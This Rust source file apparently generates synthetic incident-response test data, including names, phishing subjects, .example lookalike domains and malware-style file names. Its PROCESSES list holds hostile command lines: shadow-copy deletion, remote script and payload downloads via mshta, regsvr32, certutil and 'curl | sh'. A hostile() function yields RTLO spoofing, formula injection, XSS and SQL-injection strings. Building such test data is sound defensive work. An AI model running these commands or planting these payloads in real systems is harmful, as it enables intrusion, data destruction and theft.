//! Names, paths, subjects and comments of generated data. Hosts are under `.example` and addresses in the ranges for
//! documentation (RFC 2606, RFC 5737), so nothing points at anything.

use super::random::Random;

/// Who decides.
pub(super) const ANALYSTS: [&str; 9] = [
    "Ada Sköld",
    "Bo Lind",
    "Chen Wei",
    "Priya Rao",
    "Maria Okafor",
    "Jörg Müller",
    "Sofía Álvarez",
    "Tomáš Novák",
    "Yuki Tanaka",
];

pub(super) const APPROVALS: [&str; 10] = [
    "Confirmed with the user by phone.",
    "Matches the loader from this morning.",
    "Same sender as the last wave.",
    "Known bad hash.",
    "Device owner informed.",
    "Agreed with the service owner.",
    "Part of the incident, see the bridge.",
    "Checked in the sandbox: it phones home.",
    "Go ahead, backup is there.",
    "Approved in the stand-up.",
];

pub(super) const REJECTIONS: [&str; 10] = [
    "False positive: our own deployment script.",
    "Signed by our build, allow-listed.",
    "Business critical until Friday.",
    "Duplicate of an earlier action.",
    "User confirmed the rule is theirs.",
    "Newsletter, not phishing.",
    "Need more information from the owner.",
    "Pen test, announced.",
    "Risk accepted by the application owner.",
    "Scanner of the network team.",
];

pub(super) const USERS: [&str; 40] = [
    "m.okafor",
    "a.skold",
    "j.ferreira",
    "t.weiss",
    "n.haddad",
    "k.osei",
    "a.novak",
    "p.rao",
    "m.lindqvist",
    "e.kowalski",
    "s.alvarez",
    "y.tanaka",
    "l.dubois",
    "h.schmidt",
    "r.oconnor",
    "d.ivanova",
    "f.rossi",
    "g.papadakis",
    "i.hansen",
    "z.yilmaz",
    "b.nguyen",
    "c.moreau",
    "o.adeyemi",
    "v.petrov",
    "w.jansen",
    "x.li",
    "q.abbas",
    "u.berg",
    "j.smith",
    "m.garcia",
    "s.kim",
    "a.fernandez",
    "t.nakamura",
    "l.andersson",
    "k.murphy",
    "e.popescu",
    "svc-backup",
    "svc-build",
    "svc-scan",
    "adm.torres",
];

pub(super) const SERVERS: [&str; 16] = [
    "SRV-FIN-02",
    "FS-HR-01",
    "DC-01",
    "DC-02",
    "VPN-GW-02",
    "ci-runner-08",
    "ci-runner-11",
    "SQL-ERP-01",
    "WEB-SHOP-03",
    "EXCH-HYB-01",
    "PRINT-04",
    "JUMP-02",
    "FS-ENG-03",
    "SRV-PAY-01",
    "LAB-HPC-05",
    "BACKUP-01",
];

pub(super) const TEAMS: [&str; 8] = [
    "finance",
    "support",
    "it-desk",
    "payroll",
    "hr",
    "purchasing",
    "press",
    "reception",
];

pub(super) const SUBJECTS: [&str; 20] = [
    "Payroll update required: verify by Friday",
    "Invoice overdue: final notice",
    "Re: wire transfer, срочно!",
    "Shared document: Q4 bonus",
    "FW: credentials for the new VPN",
    "Your mailbox is full: confirm to keep mail",
    "Your parcel could not be delivered 📦",
    "You won a voucher 🎁",
    "Action required: MFA expires today",
    "New voicemail from +44 20 7946 0991",
    "Contract draft for signature",
    "Salary adjustment 2026",
    "Security alert: sign-in from a new device",
    "RE: RE: purchase order 77120",
    "Tax refund available",
    "Meeting notes from yesterday",
    "Scanned document from printer HP-3F",
    "Wichtige Mitteilung zu Ihrem Konto",
    "Votre facture nº 2026-1187",
    "至急：口座の確認",
];

pub(super) const DOMAINS: [&str; 10] = [
    "login-contoso.example.net",
    "cdn-update.example.org",
    "payroll-verify.example.com",
    "files.share-drive.example",
    "m365-secure.example.net",
    "parcel-track.example.org",
    "auth.contoso-hr.example",
    "static.adservice.example",
    "docs.sign-now.example.com",
    "update.kb-center.example",
];

pub(super) const FILES: [&str; 24] = [
    "Invoice_4471.pdf.exe",
    "crypt_svc.dll",
    "update_kb5031.cab",
    "setup.msi",
    "svc.exe",
    "loader.dll",
    "payload.bin",
    "report_q4.xlsm",
    "contract.docm",
    "chrome_update.exe",
    "a.dat",
    "7zfm.exe",
    "mimi64.exe",
    "rundll.tmp",
    "Photos_2026.pdf.scr",
    "ScanDoc.iso",
    "invoice.lnk",
    "teams_installer.exe",
    "OneDriveSetup.exe",
    "beacon.dll",
    "winhelper.ps1",
    "install.vbs",
    "readme.hta",
    "driver_fix.sys",
];

pub(super) const FOLDERS: [&str; 12] = [
    r"C:\Users\{user}\Downloads\",
    r"C:\Users\{user}\AppData\Local\Temp\",
    r"C:\Users\{user}\AppData\Roaming\Microsoft\",
    r"C:\ProgramData\wdus\",
    r"C:\Temp\",
    r"C:\Windows\Temp\",
    r"D:\Shares\HR\",
    r"D:\Shares\Finance\2026\",
    r"E:\",
    "/home/build/.cache/npm/_cacache/tmp/",
    "/var/tmp/.x/",
    "/opt/ci/work/",
];

pub(super) const PROCESSES: [&str; 10] = [
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    r"rundll32.exe C:\Users\Public\a.dat,Start",
    "cmd.exe /c vssadmin delete shadows /all /quiet",
    r"mshta.exe https://cdn-update.example.org/x/kit.hta",
    "wmic.exe process call create calc.exe",
    r"regsvr32.exe /s /n /u /i:https://files.share-drive.example/a.sct scrobj.dll",
    "certutil.exe -urlcache -f https://update.kb-center.example/p.bin p.bin",
    "/bin/sh -c curl -s https://static.adservice.example/m | sh",
    r"schtasks.exe /create /tn Reboot_AC2 /tr C:\ProgramData\wdus\svc.exe",
    "python3 -c exec(open('/var/tmp/.x/m').read())",
];

pub(super) const REGISTRY_KEYS: [&str; 8] = [
    r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\OneDriveUpdater",
    r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
    r"HKLM\SYSTEM\CurrentControlSet\Services\RTCore64",
    r"HKCU\Software\Classes\ms-settings\shell\open\command",
    r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce\kbfix",
    r"HKLM\SYSTEM\CurrentControlSet\Control\Lsa\Notification Packages",
    r"HKCU\Environment\UserInitMprLogonScript",
    r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware",
];

pub(super) const SERVICES: [&str; 6] = [
    r"WinDefendUpdSvc (C:\ProgramData\wdus\svc.exe)",
    "AnyRemoteHelper",
    "PSEXESVC",
    r"SysHealthMon (C:\Windows\Temp\shm.exe)",
    "RemoteUtilHost",
    "cron-sync.service",
];

pub(super) const DRIVERS: [&str; 5] = [
    r"C:\Windows\System32\drivers\RTCore64.sys",
    r"C:\Windows\System32\drivers\gdrv.sys",
    r"C:\Windows\System32\drivers\procexp152.sys",
    r"C:\Windows\System32\drivers\dbutil_2_3.sys",
    r"C:\Windows\Temp\asIO3.sys",
];

pub(super) const TASKS: [&str; 6] = [
    r"\Microsoft\Windows\UpdateOrchestrator\Reboot_AC2",
    r"\AdobeFlashSync",
    r"\Microsoft\Windows\Defrag\ScheduledDefrag2",
    r"\OneDrive Standalone Update",
    r"\GoogleUpdateTaskMachineQC",
    r"\Microsoft\Office\OfficeTelemetryAgent9",
];

pub(super) const CLOUD_APPS: [&str; 5] = [
    "Mail Assist Pro (OAuth app)",
    "storage account stcontosobackup01",
    "Calendar Sync Helper (OAuth app)",
    "key vault kv-contoso-prod",
    "container registry crcontosoci",
];

/// A name that tries something: turned text, invisible characters, formulas, markup, length, line breaks.
pub(super) fn hostile(random: &mut Random, entity_type: &str) -> String {
    let is_file = matches!(entity_type, "file" | "process" | "driver");
    let folder = if is_file {
        r"C:\Users\m.okafor\Downloads\"
    } else {
        ""
    };
    match random.below(14) {
        0 => format!("{folder}Invoice_4471\u{202e}fdp.exe"),
        1 => format!("{folder}set\u{200b}up\u{2060}.msi"),
        2 => "=HYPERLINK(\"http://198.51.100.9/\"&A1,\"Open\")".to_owned(),
        3 => "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        4 => "<img src=x onerror=alert(1)>.pdf".to_owned(),
        5 => "\"><script>alert(document.cookie)</script>".to_owned(),
        6 => format!(r"D:\Shares\HR\{}.lnk", "تقرير الرواتب.docx"),
        7 => format!(
            "{folder}{}.exe",
            "very-long-name-".repeat(40 + random.below(60) as usize)
        ),
        8 => "line one\r\nline two\tand a tab".to_owned(),
        9 => "Z\u{0351}\u{036b}\u{0343}a\u{0363}\u{0366}l\u{0368}g\u{0321}o\u{0322}.exe".to_owned(),
        10 => "👩\u{200d}👩\u{200d}👧\u{200d}👦 party 🏴\u{200d}☠\u{fe0f}.scr".to_owned(),
        11 => "раураl-\u{0441}ontoso.example".to_owned(),
        12 => "'; DROP TABLE action; --".to_owned(),
        _ => format!("{folder}nul\u{0}byte\u{7f}\u{85}.dll"),
    }
}
